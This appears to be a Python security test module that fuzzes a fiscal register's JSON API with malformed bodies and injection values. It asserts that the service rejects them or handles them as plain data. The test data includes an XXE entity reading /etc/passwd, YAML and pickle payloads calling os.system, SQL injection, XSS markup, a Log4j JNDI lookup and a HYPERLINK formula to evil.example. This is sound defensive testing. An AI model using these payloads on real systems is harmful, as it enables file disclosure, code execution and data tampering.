"""JSON: depth, size, numbers, letters and names that parsers read in different ways."""

from __future__ import annotations

import json
from typing import Any

from dmtwisted.requests import MAX_BODY
from tests.attacks.desk import Desk
from tests.attacks.variants import HIGH, LOW, MEDIUM, Family, Stage
from tests.test_sessions import SETTINGS
from tests.web_case import EXECUTE, JSON_TYPE, fiscal, sale

BODIES = Family("json", "JSON")

SALE = json.dumps(sale("evil")).encode()
STATUS = json.dumps(fiscal(18)).encode()


def task(desk: Desk, body: bytes, path: str = EXECUTE) -> Any:
    """The decoded answer to a body."""
    answer = desk.ask("POST", path, body, [JSON_TYPE])
    assert answer.status == 200, answer
    return json.loads(answer.body)


def changed(old: str, new: bytes) -> bytes:
    """A sale with other bytes in one place."""
    found = SALE.replace(old.encode(), new)
    assert found != SALE, old
    return found


@BODIES.each(
    {
        "empty": ("nothing", b""),
        "blank": ("blanks and line ends", b" \r\n\t" * 1000),
        "null": ("`null`", b"null"),
        "true": ("`true`", b"true"),
        "number": ("a number", b"1"),
        "text": ("a text", b'"sale"'),
        "array": ("an empty array", b"[]"),
        "array-of-sales": ("an array with a sale", b"[" + SALE + b"]"),
        "two-documents": ("two sales one after the other", SALE + SALE),
        "lines": ("two sales on two lines", SALE + b"\n" + SALE),
        "garbage-after": ("a sale, then a zero byte", SALE + b"\0"),
        "brace-after": ("a sale, then a brace", SALE + b"}"),
        "cut": ("a sale without its last brace", SALE[:-1]),
        "comma-last": ("a comma before the last brace", SALE[:-1] + b",}"),
        "comma-first": ("a comma after the first brace", b"{," + SALE[1:]),
        "single-quotes": ("single quotes", SALE.replace(b'"', b"'")),
        "no-quotes": ("names without quotes", SALE.replace(b'"device"', b"device")),
        "comment": ("a comment", b"/* x */" + SALE),
        "comment-line": ("a comment to the end of the line", SALE + b" // x"),
        "hash-comment": ("a comment with a hash", b"# x\n" + SALE),
        "form": ("a sale as a form's field", b"json=" + SALE),
        "xml": ("XML with an external entity", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "yaml": ("YAML that makes an object of Python", b"!!python/object/apply:os.system [id]"),
        "pickle": ("a pickle", b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."),
        "msgpack": ("MessagePack", b"\x81\xa6device\xa4test"),
        "bson": ("BSON", b"\x16\0\0\0\x02device\0\x05\0\0\0test\0\0"),
        "jsonp": ("a sale in a call", b"x(" + SALE + b")"),
        "xssi": ("a sale after `)]}'`", b")]}'\n" + SALE),
        "utf16": ("UTF-16", SALE.decode().encode("utf-16")),
        "utf16-bare": ("UTF-16 without a mark", SALE.decode().encode("utf-16-le")),
        "utf32": ("UTF-32", SALE.decode().encode("utf-32")),
        "utf7": ("UTF-7", b"+AHsAIg-device"),
        "bom-twice": ("two marks of UTF-8", b"\xef\xbb\xbf" * 2 + SALE),
        "latin1": ("Windows-1251", json.dumps(sale("evil"), ensure_ascii=False).encode("cp1251")),
        "overlong": ("a quote as two bytes of UTF-8", changed("evil", b"\xc0\xa2")),
        "overlong-nul": ("a zero byte as two bytes of UTF-8", changed("evil", b"\xc0\x80")),
        "cesu": ("a surrogate in UTF-8", changed("evil", b"\xed\xa0\x80")),
        "five-bytes": ("a letter of five bytes", changed("evil", b"\xf8\x88\x80\x80\x80")),
        "past-unicode": ("a letter beyond U+10FFFF", changed("evil", b"\xf4\x90\x80\x80")),
        "cut-letter": ("half a letter", changed("evil", b"\xd0")),
        "raw-newline": ("a raw line end in a text", changed("evil", b"a\nb")),
        "raw-nul": ("a raw zero byte in a text", changed("evil", b"a\0b")),
        "raw-escape": ("a raw escape byte in a text", changed("evil", b"\x1b[2J")),
        "escape-x": ("an escape `\\x41`", changed("evil", b"\\x41")),
        "escape-cut": ("an escape `\\u00`", changed("evil", b"\\u00")),
        "escape-braces": ("an escape `\\u{41}`", changed("evil", b"\\u{41}")),
        "escape-octal": ("an escape `\\0`", changed("evil", b"\\0")),
        "surrogate-high": ("half of a pair of surrogates", changed("evil", b"\\ud800")),
        "surrogate-low": ("the second half alone", changed("evil", b"\\udc00")),
        "surrogate-wrong": ("a pair in the wrong order", changed("evil", b"\\udc00\\ud800")),
        "nan": ("`NaN` as the sum", changed("125.5", b"NaN")),
        "infinity": ("`Infinity` as the sum", changed("125.5", b"Infinity")),
        "minus-infinity": ("`-Infinity` as the sum", changed("125.5", b"-Infinity")),
        "plus": ("`+125.5`", changed("125.5", b"+125.5")),
        "no-leading-digit": ("`.5`", changed("125.5", b".5")),
        "no-fraction": ("`125.`", changed("125.5", b"125.")),
        "leading-zero": ("`0125.5`", changed("125.5", b"0125.5")),
        "hex": ("`0x7d`", changed("125.5", b"0x7d")),
        "underscore": ("`1_25.5`", changed("125.5", b"1_25.5")),
        "minus-alone": ("`-`", changed("125.5", b"-")),
        "exponent-cut": ("`1e`", changed("125.5", b"1e")),
        "comma-number": ("`125,5`", changed("125.5", b"125,5")),
        "exponent-999": ("`1e999`", changed("125.5", b"1e999")),
        "exponent-nine-digits": ("`1e999999999`", changed("125.5", b"1e999999999")),
        "digits-5000": ("a number of 5,000 digits", changed("125.5", b"9" * 5000)),
        "digits-million": ("a number of a million digits", changed("125.5", b"9" * 1_000_000)),
        "deep-arrays": ("arrays 1,000 deep", b'{"a":' + b"[" * 1000 + b"]" * 1000 + b"}"),
        "deep-objects": ("objects 1,000 deep", b'{"a":' * 1000 + b"1" + b"}" * 1000),
        "deep-100k": ("arrays 100,000 deep", b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "deep-open": ("4 MB of opening brackets", b"[" * MAX_BODY),
        "deep-open-objects": ("4 MB of opening objects", b'{"":' * (MAX_BODY // 4)),
        "deep-mixed": ("brackets of both kinds, 500,000 deep", b'[{"":' * 500_000),
        "quotes-4mb": ("4 MB of quotes", b'"' * MAX_BODY),
        "backslashes-4mb": ("4 MB of backslashes in a text", b'{"device":"' + b"\\" * (MAX_BODY - 100) + b'"}'),
        "blanks-4mb": ("4 MB of blanks", b" " * MAX_BODY),
        "numbers-200k": ("200,000 numbers in an unknown member", b'{"x": [' + b"1," * 199_999 + b"1]}"),
        "too-long": ("one byte more than 4 MB", b" " * (MAX_BODY + 1 - len(SALE)) + SALE),
    },
    "2000 with a text for people; no task runs.",
    MEDIUM,
)
def not_json(desk: Desk, body: bytes) -> None:
    """What is not JSON, or no object, or no number."""
    answer = task(desk, body)
    assert answer["res"] in (2000, 1091) and answer["errortxt"], answer
    assert "Traceback" not in answer["errortxt"] and 'File "' not in answer["errortxt"], answer


@BODIES.each(
    {
        "sum-negative": ("a negative sum", "125.5", b"-125.5"),
        "sum-tiny": ("a sum of a tenth of a kopeck", '"sum": 125.5', b'"sum": 0.001'),
        "sum-underflow": ("a sum of 1e-300", '"sum": 125.5', b'"sum": 1e-300'),
        "sum-64-bits": ("a sum of 2^64", '"sum": 125.5', b'"sum": 18446744073709551616'),
        "sum-trillion": ("a sum of a trillion", '"sum": 125.5', b'"sum": 1e12'),
        "sum-boolean": ("`true` as the sum", '"sum": 125.5', b'"sum": true'),
        "sum-array": ("an array as the sum", '"sum": 125.5', b'"sum": [125.5]'),
        "sum-object": ("an object as the sum", '"sum": 125.5', b'"sum": {"$gt": 0}'),
        "sum-text-nan": ('the text "NaN" as the sum', '"sum": 125.5', b'"sum": "NaN"'),
        "sum-text-infinity": ('the text "Infinity" as the sum', '"sum": 125.5', b'"sum": "Infinity"'),
        "sum-text-hex": ('the text "0x7d" as the sum', '"sum": 125.5', b'"sum": "0x7d"'),
        "sum-text-arabic": ("Arabic digits as the sum", '"sum": 125.5', '"sum": "١٢٥.٥"'.encode()),
        "sum-text-underscore": ('the text "1_25.5" as the sum', '"sum": 125.5', b'"sum": "1_25.5"'),
        "sum-text-long": ("100,000 digits in a text as the sum", '"sum": 125.5', b'"sum": "' + b"9" * 100_000 + b'"'),
        "exponent-minus": ("a sum of 1e-999999999", "125.5", b"1e-999999999"),
        "count-huge": ("a quantity of 1e30", '"cnt": 1', b'"cnt": 1e30'),
        "count-zero": ("a quantity of 0", '"cnt": 1', b'"cnt": 0'),
        "count-negative": (
            "a negative quantity and price",
            '"cnt": 1, "price": 125.5',
            b'"cnt": -1, "price": -125.5',
        ),
        "price-overflow": (
            "price times quantity beyond any sum",
            '"cnt": 1, "price": 125.5',
            b'"cnt": 99999999, "price": 99999999999',
        ),
        "rows-object": ("an object as the list of rows", '"rows": [', b'"rows": {}, "x": ['),
        "rows-text": ("a text as the list of rows", '"rows": [', b'"rows": "[]", "x": ['),
        "rows-null": ("`null` as a row", '"rows": [', b'"rows": [null, '),
        "pays-unknown": ("a means of payment that is not there", '"type": 0, "sum"', b'"type": 2147483648, "sum"'),
        "pays-negative": (
            "a negative payment beside a larger one",
            '"pays": [',
            b'"pays": [{"type": 0, "sum": -125.5}, {"type": 0, "sum": 125.5}, ',
        ),
        "tax-group": ("a tax group that is not there", '"taxgrp": 1', b'"taxgrp": 999'),
        "tax-group-text": ("a path as the tax group", '"taxgrp": 1', b'"taxgrp": "../1"'),
        "task-64-bits": ("a task of 2^64", '"task": 1', b'"task": 18446744073709551617'),
        "task-fraction": ("task 1.5", '"task": 1', b'"task": 1.5'),
        "task-negative": ("task -1", '"task": 1', b'"task": -1'),
        "task-array": ("an array as the task", '"task": 1', b'"task": [1]'),
        "type-other": ("`type` 99", '"type": 1, "fiscal"', b'"type": 99, "fiscal"'),
        "type-text": ('`type` "one"', '"type": 1, "fiscal"', b'"type": "one", "fiscal"'),
        "tag-201": ("a tag of 201 characters", '"evil"', b'"' + b"x" * 201 + b'"'),
        "tag-1mb": ("a tag of 1 MB", '"evil"', b'"' + b"x" * 1_000_000 + b'"'),
        "tag-object": ("an object as the tag", '"evil"', b'{"$ne": null}'),
        "tag-array": ("an array as the tag", '"evil"', b'["a"]'),
        "tag-true": ("`true` as the tag", '"evil"', b"true"),
        "device-array": ("two devices", '"device": "test"', b'"device": ["test", "test"]'),
        "device-unknown": ("a device that is not there", '"device": "test"', b'"device": "Test "'),
        "device-path": ("a path as the device", '"device": "test"', b'"device": "../test"'),
        "device-sql": ("SQL as the device", '"device": "test"', b'"device": "\' OR 1=1 --"'),
        "device-1mb": ("a device's name of 1 MB", '"device": "test"', b'"device": "' + b"x" * 1_000_000 + b'"'),
        "device-zero": ("a name with a zero byte", '"device": "test"', b'"device": "test\\u0000"'),
        "name-empty": ("an item without a name", "\\u041a\\u0430\\u0432\\u0430", b""),
        "name-zero": ("an item's name with a zero byte", "\\u041a\\u0430\\u0432\\u0430", b"a\\u0000b"),
        "name-controls": ("an item's name with an escape sequence", "\\u041a\\u0430\\u0432\\u0430", b"a\\u001b[2Jb"),
        "name-noncharacter": ("an item's name with U+FFFF", "\\u041a\\u0430\\u0432\\u0430", b"a\\uffffb"),
        "receipt-missing": ("a sale without a receipt", '"receipt"', b'"receit"'),
    },
    "It is refused with the code and the place of what is wrong; nothing is sold.",
    HIGH,
)
def wrong_value(desk: Desk, old: str, new: bytes) -> None:
    """A sale with one wrong value."""
    answer = task(desk, changed(old, new))
    assert answer["res"] > 0 and answer["errortxt"], answer
    assert len(answer["errortxt"]) < 2000, len(answer["errortxt"])


@BODIES.each(
    {
        "fraction-six": ("a sum with six decimals", b"125.500001"),
        "fraction-million": ("a sum with a million decimals", b"125.5" + b"0" * 999_999 + b"1"),
        "sum-as-text": ('the sum as the text " 125.5 "', b'" 125.5 "'),
        "sum-exponent": ("the sum as 1255e-1", b"1255e-1"),
    },
    "It is sold once, over 125.50 to the kopeck.",
    MEDIUM,
)
def odd_spelling(desk: Desk, number: bytes) -> None:
    """A sum as some programs write it."""
    answer = task(desk, changed('"sum": 125.5', b'"sum": ' + number).replace(b"evil", desk.tag().encode()))
    if answer["res"] == 0:
        desk.sold += 1
        assert desk.ledger()[-1] == 12550, answer
    else:
        assert answer["res"] == 2000, answer


@BODIES.each(
    {
        "proto": (
            "`__proto__` and `constructor`",
            b'"__proto__": {"training": true}, "constructor": {"prototype": {"x": 1}}, ',
        ),
        "dunder": (
            "names of Python: `__class__`, `__init__`",
            b'"__class__": "x", "__init__": {"__globals__": {}}, ',
        ),
        "twice-first": ("a device that is not there, then the right one", b'"device": "nobody", '),
        "unknown-10k": ("10,000 unknown members", b"".join(b'"x%d": %d, ' % (n, n) for n in range(10_000))),
        "unknown-name-1mb": ("an unknown member whose name is 1 MB", b'"' + b"x" * 1_000_000 + b'": 1, '),
        "unknown-escaped": ("the member `device` in escapes, before the right one", b'"\\u0064evice": "nobody", '),
        "unknown-case": ("`Device` with a capital", b'"Device": "nobody", '),
        "unknown-nul": ("the member `device\\0`", b'"device\\u0000": "nobody", '),
        "unknown-markup": ("an unknown member of markup and an escape sequence", b'"<script>\\u001b[2J": 1, '),
        "source-1mb": ("a source of 1 MB, which is before the right one", b'"source": "' + b"x" * 1_000_000 + b'", '),
        "unknown-deep": ("an unknown member 60 deep", b'"x": ' + b"[" * 60 + b"]" * 60 + b", "),
        "unknown-1mb": ("an unknown member of 1 MB", b'"x": "' + b"y" * 1_000_000 + b'", '),
        "unknown-numbers": ("20,000 numbers in an unknown member", b'"x": [' + b"1," * 19_999 + b"1], "),
        "bom": ("the mark of UTF-8, once", b""),
    },
    "The task runs as if the rest were not there: the last of two members counts, and names of parsers mean nothing.",
    MEDIUM,
)
def more_members(desk: Desk, more: bytes) -> None:
    """A task without effect, with more in it."""
    answer = task(desk, (b"" if more else b"\xef\xbb\xbf") + b"{" + more + STATUS[1:])
    assert answer["res"] == 0, answer
    assert len(json.dumps(answer)) < 100_000, "the answer echoes what was sent"


@BODIES.each(
    {
        "name-template": ("template marks as an item's name", "{{ 7 * 7 }}{% raw %}"),
        "name-sql": ("SQL as an item's name", "'); DROP TABLE operation; --"),
        "name-markup": ("markup as an item's name", "<img src=x onerror=alert(1)>"),
        "name-format": ("format marks as an item's name", "%s%n{0.__class__}%(x)d"),
        "name-log4j": ("a look-up as an item's name", "${jndi:ldap://evil.example/a}"),
        "name-formula": ("a formula as an item's name", '=HYPERLINK("http://evil.example","x")'),
        "name-bidi": ("letters that turn the reading round", "Кава \u202e05,1"),
        "name-combining": ("1,000 combining marks on one letter", "К" + "\u0301" * 200),
        "name-emoji": ("pairs of surrogates", "\U0001f4a9" * 50),
        "name-xml": ("the end of a CDATA and an entity", "]]>&xxe;<!ENTITY"),
    },
    "It is sold under that very name, which is data everywhere: in the document, on paper and on pages.",
    HIGH,
)
def hostile_name(desk: Desk, name: str) -> None:
    """A sale of an item with a hostile name; the receipt's page is looked at."""
    row = {"code": "1", "name": name, "cnt": 1, "price": 125.5, "taxgrp": 1}
    answer = desk.execute(sale(desk.tag(), rows=[row]))
    if answer["res"] != 0:
        # A letter that no document may have is refused before anything is sent.
        assert answer["res"] in (1089, 2000), answer
        return
    desk.sold += 1
    page = desk.own("GET", f"/dm/main/receipts/{register(desk)}/{answer['info']['docno']}").body.decode()
    assert "7 * 7" not in name or "7 * 7" in page, "the template was filled in"
    assert "<img src=x" not in page and "onerror=alert(1)>" not in page, page[:500]


def register(desk: Desk) -> str:
    """The id of the register `test`."""
    devices = desk.own("GET", "/dm/api/v3/devices").json["devices"]
    return next(str(each["dev_id"]) for each in devices if each["device"] == "test")


@BODIES.one(
    "tag-zero-width",
    "the tag of a sale again, with an invisible sign in it",
    "It is another tag, as all programs see it; the first sale stands as it was.",
    LOW,
)
def invisible(desk: Desk) -> None:
    """Two tags that look the same."""
    tag = desk.tag()
    answers = [desk.execute(sale(one)) for one in (tag, tag[:2] + "\u200b" + tag[2:], tag)]
    assert answers[0]["res"] == 0, answers
    desk.sold += 1 + (answers[1]["res"] == 0)
    assert answers[2]["info"] == answers[0]["info"], answers


@BODIES.one(
    "tag-again",
    "a sale's tag with another sum",
    "The first sale comes back, and nothing is sold (specification 3.3).",
    HIGH,
)
def tag_again(desk: Desk) -> None:
    """Another sale under a known tag."""
    tag = desk.tag()
    first = desk.execute(sale(tag))
    desk.sold += 1
    row = {"code": "1", "name": "Кава", "cnt": 1, "price": 1, "taxgrp": 1}
    second = desk.execute(sale(tag, sum=1, rows=[row], pays=[{"type": 0, "sum": 1}]))
    assert second["res"] in (0, 1051, 1080), second
    assert second["res"] == 1080 or second["info"]["docno"] == first["info"]["docno"], (first, second)


@BODIES.each(
    {
        "settings-deep": ("settings 1,000 deep", b'{"a":' * 1000 + b"1" + b"}" * 1000),
        "settings-array": ("an array of settings", b'[{"logdays": 9}]'),
        "settings-utf16": ("settings in UTF-16", '{"logdays": 9}'.encode("utf-16")),
        "settings-huge-number": ("a setting of 1e400", b'{"logdays": 1e400}'),
        "settings-digits": ("a setting of 5,000 digits", b'{"logdays": ' + b"9" * 5000 + b"}"),
        "settings-negative": ("a negative number of days", b'{"logdays": -1}'),
        "settings-boolean": ("an object for yes or no", b'{"extAccess": {"x": 1}}'),
        "settings-object": ("an object for a text", b'{"supmail": {"$gt": ""}}'),
        "settings-5mb": ("settings of 5 MB", b'{"supmail": "' + b"x" * 5_000_000 + b'"}'),
        "settings-mixed": ("a right setting beside a wrong one", b'{"logdays": 9, "extAccess": "perhaps"}'),
        "settings-nul": ("a text with a zero byte and an escape sequence", b'{"supmail": "a\\u0000\\u001b[2J@b"}'),
    },
    "The whole change is refused with a reason, and no setting has another value.",
    MEDIUM,
    Stage.LOGIN,
)
def wrong_settings(desk: Desk, body: bytes) -> None:
    """A change by the owner's own program, which somebody feeds."""
    answer = desk.own("POST", SETTINGS, body)
    assert answer.status in (200, 400, 422), answer
    assert answer.json["res"] > 0 and answer.json["errortxt"], answer
